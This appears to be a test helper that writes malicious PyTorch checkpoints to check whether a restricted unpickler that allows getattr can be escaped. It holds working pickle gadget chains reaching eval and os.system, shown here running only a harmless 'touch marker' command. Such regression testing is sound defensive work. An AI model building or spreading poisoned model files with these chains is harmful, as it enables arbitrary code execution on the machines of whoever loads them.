"""Checkpoints that run code when unpickled with the real ``getattr``
allowed (what tsm_mm.compat did): each touches ``marker`` when it runs."""
import builtins
import os.path as osp

import torch
from mmengine.logging import HistoryBuffer

_rebuild = torch._tensor._rebuild_from_type_v2  # calls func(*args)


class Call:
    """Pickles as ``func(*args)`` (a REDUCE of the global ``func``)."""

    def __init__(self, func, *args) -> None:
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def get(obj, name):
    return Call(builtins.getattr, obj, name)


def call(func, result_type, *args):
    """``func(*args)`` through torch's allowed ``_rebuild_from_type_v2``."""
    return Call(_rebuild, func, result_type, args, {})


def _touch(marker: str) -> str:
    return f'__import__("pathlib").Path({marker!r}).touch()'


def eval_via_getattr(marker):
    """getattr(getattr, '__self__') is the builtins module -> eval."""
    evaluate = get(get(builtins.getattr, '__self__'), 'eval')
    return call(evaluate, get(None, '__class__'), _touch(marker))


def os_system_via_getattr(marker):
    """builtins.__import__('os').system('touch marker')."""
    module = get(builtins.getattr, '__self__')
    importer = get(module, '__import__')
    os_module = call(importer, get(module, '__class__'), 'os')
    return call(get(os_module, 'system'), get(0, '__class__'),
                f'touch {marker}')


def eval_via_allowed_class(marker):
    """From an allowed class: HistoryBuffer.__init__.__builtins__['eval']."""
    namespace = get(get(HistoryBuffer, '__init__'), '__builtins__')
    lookup = get(namespace, 'get')
    evaluate = call(lookup, get(lookup, '__class__'), 'eval')
    return call(evaluate, get(None, '__class__'), _touch(marker))


def reduce_eval(marker):
    """A plain __reduce__ to eval (torch refuses it by itself)."""
    return Call(builtins.eval, _touch(marker))


PAYLOADS = dict(eval_via_getattr=eval_via_getattr,
                os_system_via_getattr=os_system_via_getattr,
                eval_via_allowed_class=eval_via_allowed_class,
                reduce_eval=reduce_eval)


def place(payload, where: str, state_dict: dict) -> dict:
    """A checkpoint with ``payload`` in ``where``."""
    checkpoint = dict(meta=dict(epoch=1, iter=1), state_dict=state_dict,
                      optimizer=dict(state={0: dict(step=1)},
                                     param_groups=[dict(lr=0.1)]))
    if where == 'top':
        checkpoint['evil'] = payload
    elif where == 'meta':
        checkpoint['meta']['cfg'] = payload
    elif where == 'optimizer':
        checkpoint['optimizer']['state'][0]['exp_avg'] = payload
    return checkpoint


def write(path, payload_name, where, state_dict=None) -> str:
    """Save the checkpoint; returns its marker path."""
    marker = osp.join(osp.dirname(str(path)), f'{osp.basename(str(path))}'
                      '.ran')
    payload = PAYLOADS[payload_name](marker)
    torch.save(place(payload, where, state_dict or {}), str(path))
    return marker
